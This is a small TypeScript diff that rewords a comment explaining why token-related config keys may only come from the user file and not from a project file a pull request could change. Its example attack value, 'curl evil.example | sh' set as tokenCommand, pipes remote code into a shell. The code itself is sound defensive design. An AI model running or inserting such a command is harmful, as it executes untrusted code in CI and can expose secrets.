@@ -99,9 +99,8 @@ export interface ConfigFile {
 }
 
 /**
- * The keys that decide how the token is obtained, and which URLs a project file may send it to. A project file
- * is whatever the branch being built says (a pull request can change it), so only the user file may hold them:
- * otherwise `tokenCommand: "curl evil.example | sh"` on a branch would run in CI.
+ * The keys that decide how the token is obtained and where a project file may send it: only the user file may hold them, since a pull
+ * request can change a project file (`tokenCommand: "curl evil.example | sh"` would run in CI).
  */
 const USER_ONLY_KEYS = ['token', 'tokenCommand', 'tokenFile', 'trustedApiUrls'] as const;
 
